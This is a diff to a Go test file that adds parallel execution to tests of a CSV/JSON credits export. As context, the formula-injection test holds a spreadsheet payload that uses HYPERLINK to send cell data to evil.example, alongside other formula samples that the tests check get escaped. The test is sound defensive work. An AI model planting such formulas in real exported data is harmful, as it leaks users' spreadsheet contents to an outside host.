@@ -89,6 +89,7 @@ func parseCSV(t *testing.T, body string) [][]string {
 }
 
 func TestCreditsAccess(t *testing.T) {
+	t.Parallel()
 	w, c := setup(t)
 	complete(t, w.App, w.Placement.Id, "2026-06-15", nil)
 	tests := []struct {
@@ -123,6 +124,7 @@ func TestCreditsAccess(t *testing.T) {
 }
 
 func TestCreditsBadInput(t *testing.T) {
+	t.Parallel()
 	w, c := setup(t)
 	tests := []struct {
 		name, url, field, code string
@@ -153,6 +155,7 @@ func TestCreditsBadInput(t *testing.T) {
 }
 
 func TestCreditsCSVRow(t *testing.T) {
+	t.Parallel()
 	w, c := setup(t)
 	_, err := w.App.DB().Update("users", dbx.Params{"apaar_id": "123456789012", "program": "BSc Physics", "semester": 6},
 		dbx.HashExp{"id": w.S1.Id}).Execute()
@@ -185,6 +188,7 @@ func TestCreditsCSVRow(t *testing.T) {
 }
 
 func TestCreditsRowsBoundsAndOrder(t *testing.T) {
+	t.Parallel()
 	w, c := setup(t)
 	complete(t, w.App, w.Placement.Id, "2026-06-15", nil) // S1, REG…, certificate of the world
 
@@ -251,6 +255,7 @@ func TestCreditsRowsBoundsAndOrder(t *testing.T) {
 }
 
 func TestCreditsFormulaInjection(t *testing.T) {
+	t.Parallel()
 	w, c := setup(t)
 	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
 	_, err := w.App.DB().Update("users", dbx.Params{"name": evil, "program": "+SUM(1,2)", "register_no": "-2+3"},
@@ -280,6 +285,7 @@ func TestCreditsFormulaInjection(t *testing.T) {
 }
 
 func TestSafeCell(t *testing.T) {
+	t.Parallel()
 	tests := []struct{ in, want string }{
 		{"", ""}, {"Anjali", "Anjali"}, {"=1+1", "'=1+1"}, {"+91 98470", "'+91 98470"}, {"-5", "'-5"},
 		{"@SUM(A1)", "'@SUM(A1)"}, {"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"a=b", "a=b"}, {"'quoted", "'quoted"},
@@ -292,6 +298,7 @@ func TestSafeCell(t *testing.T) {
 }
 
 func TestCreditsJSON(t *testing.T) {
+	t.Parallel()
 	w, c := setup(t)
 
 	res := c.Do(http.MethodGet, creditsURL(w.InstA.Id), w.CoordA.Token, nil) // json by default
@@ -340,6 +347,7 @@ func TestCreditsJSON(t *testing.T) {
 }
 
 func TestWriteCreditsProgress(t *testing.T) {
+	t.Parallel()
 	w := apptest.NewWorld(t)
 	seedCompleted(t, w, 2500)
 	var ticks []int
